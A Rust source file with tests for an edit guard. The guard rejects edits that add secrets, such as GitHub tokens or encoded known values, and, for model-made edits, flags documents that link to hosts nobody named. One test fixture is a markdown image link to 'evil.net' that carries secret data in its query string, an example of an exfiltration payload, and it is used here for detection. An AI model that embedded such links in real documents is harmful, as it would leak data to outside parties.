//! What the text of an edit must not bring in, whatever its path: secrets, and where
//! a model had a hand in it, addresses of hosts that nobody named.

use std::ops::Range;
use std::sync::{Arc, LazyLock};

use super::problem::Problem;
use crate::edit::Replacement;
use crate::egress;
use crate::path::RepoPath;
use crate::redact::Redactor;

/// Bytes around what an edit writes that it may make a secret together with.
const AROUND_BYTES: usize = 256;

/// Looks at what edits bring in.
#[derive(Clone, Default)]
pub struct Guard {
    redactor: Arc<Redactor>,
    hosts: Option<Arc<[String]>>,
}

impl Guard {
    /// A guard against what the redactor finds and, if there are `hosts`, against
    /// addresses of others in documents.
    #[must_use]
    pub fn new(redactor: Arc<Redactor>, hosts: Option<&[String]>) -> Self {
        Self { redactor, hosts: hosts.map(Arc::from) }
    }

    /// The guard of a task without a model: secrets by their shape alone.
    #[must_use]
    pub fn plain() -> &'static Self {
        static PLAIN: LazyLock<Guard> = LazyLock::new(Guard::default);
        &PLAIN
    }

    /// What a new file brings in.
    pub(super) fn created(&self, path: &RepoPath, text: &str) -> Option<Problem> {
        self.secret("", text).or_else(|| self.host(path, "", text))
    }

    /// What a changed file brings in.
    pub(super) fn changed(&self, path: &RepoPath, old: &str, new: &str, replacements: &[Replacement]) -> Option<Problem> {
        // Most edits write little, and hardly any a secret: only then both texts are gone over.
        let mut written = around(new, replacements);
        let is_suspect = written.any(|text| !self.redactor.count(text).is_empty());
        is_suspect.then(|| self.secret(old, new)).flatten().or_else(|| self.host(path, old, new))
    }

    fn secret(&self, old: &str, new: &str) -> Option<Problem> {
        // By value: one must not take the place of another of its kind.
        let (before, after) = (self.redactor.values(old), self.redactor.values(new));
        let more = after.iter().find(|(value, count)| **count > before.get(*value).copied().unwrap_or_default());
        more.map(|((kind, _), _)| Problem::Secret(kind))
    }

    fn host(&self, path: &RepoPath, old: &str, new: &str) -> Option<Problem> {
        let hosts = self.hosts.as_deref()?;
        egress::brought(path.as_str(), old, new, hosts).map(Problem::NewHost)
    }
}

/// The parts of a new text that replacements wrote, with what stands around them.
fn around<'t>(new: &'t str, replacements: &[Replacement]) -> impl Iterator<Item = &'t str> {
    let mut parts: Vec<Range<usize>> = Vec::new();
    let (mut written, mut removed) = (0, 0);
    for Replacement { span, text } in replacements {
        // Spans are in order and lie in the old text, as they were applied.
        let begin = (span.start as usize + written).saturating_sub(removed);
        let end = begin + text.len();
        written += text.len();
        removed += (span.end - span.start) as usize;
        let part = begin.saturating_sub(AROUND_BYTES)..end.saturating_add(AROUND_BYTES).min(new.len());
        match parts.last_mut().filter(|last| part.start <= last.end) {
            Some(last) => last.end = part.end,
            None => parts.push(part),
        }
    }
    let whole = |part: Range<usize>| &new[new.floor_char_boundary(part.start)..new.ceil_char_boundary(part.end)];
    parts.into_iter().map(whole)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::edit::{Span, apply};

    fn token(fill: &str) -> String {
        format!("ghp_{}", fill.repeat(18))
    }

    /// What replacing bytes of a text of `notes.md` comes to.
    fn changed(guard: &Guard, old: &str, spans: &[(usize, usize, &str)]) -> Option<Problem> {
        let replacement = |(start, end, text): &(usize, usize, &str)| Replacement {
            span: Span { start: *start as u32, end: *end as u32 },
            text: (*text).to_owned(),
        };
        let replacements: Vec<_> = spans.iter().map(replacement).collect();
        let new = apply(old, &replacements).expect("an edit that applies");
        guard.changed(&RepoPath::new("notes.md").expect("a path"), old, &new, &replacements)
    }

    #[test]
    fn an_edit_adds_no_secret_and_may_keep_one() {
        let guard = Guard::plain();
        let old = format!("é one\n{} two\n{}", token("a1"), "x\n".repeat(3_000));
        let secret = Some(Problem::Secret("github-token"));
        assert_eq!(changed(guard, &old, &[(3, 6, "two")]), None, "the one beside it was there");
        assert_eq!(changed(guard, &old, &[(7, 7 + 40, &token("b2"))]), secret, "another in its place");
        let moved = format!("{}\n", token("a1"));
        assert_eq!(changed(guard, &old, &[(0, 0, &moved), (7, 7 + 40, "gone")]), None, "one that is moved");
        assert_eq!(changed(guard, &old, &[(3, 3, "a"), (old.len(), old.len(), &token("b2"))]), secret);
        assert_eq!(
            changed(guard, &format!("gh-p_{}", "c3".repeat(18)), &[(2, 3, "")]),
            secret,
            "what is taken away can make one"
        );
        assert_eq!(changed(guard, &old, &[(0, old.len(), "")]), None);
        let path = RepoPath::new("src/a.rs").expect("a path");
        assert_eq!(guard.created(&path, &format!("let key = \"{}\";", token("d4"))), secret);
        let known = Guard::new(Arc::new(Redactor::new(vec!["plain-known-value".to_owned().into()])), None);
        assert_eq!(known.created(&path, "cGxhaW4ta25vd24tdmFsdWU="), Some(Problem::Secret("known-key")));
    }

    #[test]
    fn case_67_hosts_are_asked_about_where_a_model_had_a_hand() {
        let asking = Guard::new(Arc::default(), Some(&["allowed.org".to_owned()]));
        let (old, added) = ("# A\n", "![x](https://evil.net/p.png?d=secret)");
        let evil = Some(Problem::NewHost("evil.net".to_owned()));
        assert_eq!(changed(&asking, old, &[(4, 4, added)]), evil);
        assert_eq!(changed(Guard::plain(), old, &[(4, 4, added)]), None);
        assert_eq!(changed(&asking, old, &[(4, 4, "<https://allowed.org/a>")]), None);
        let created = |path: &str, text: &str| asking.created(&RepoPath::new(path).expect("a path"), text);
        assert_eq!(created("new.md", added), evil);
        assert_eq!(created("new.html", "<p>https://allowed.org"), None);
        assert_eq!(created("src/a.rs", &format!("/// {added}")), evil, "documentation in code");
        assert_eq!(created("src/a.rs", "const HOST: &str = \"https://evil.net\";"), None, "not a document");
    }

    #[test]
    fn what_stands_around_is_looked_at_once() {
        let new = "a".repeat(10_000);
        let at = |start: u32, text: &str| Replacement { span: Span { start, end: start }, text: text.to_owned() };
        let parts: Vec<_> = around(&new, &[at(0, "aa"), at(400, "a"), at(8_000, "")]).map(str::len).collect();
        assert_eq!(parts, [400 + 3 + AROUND_BYTES, 2 * AROUND_BYTES]);
    }
}
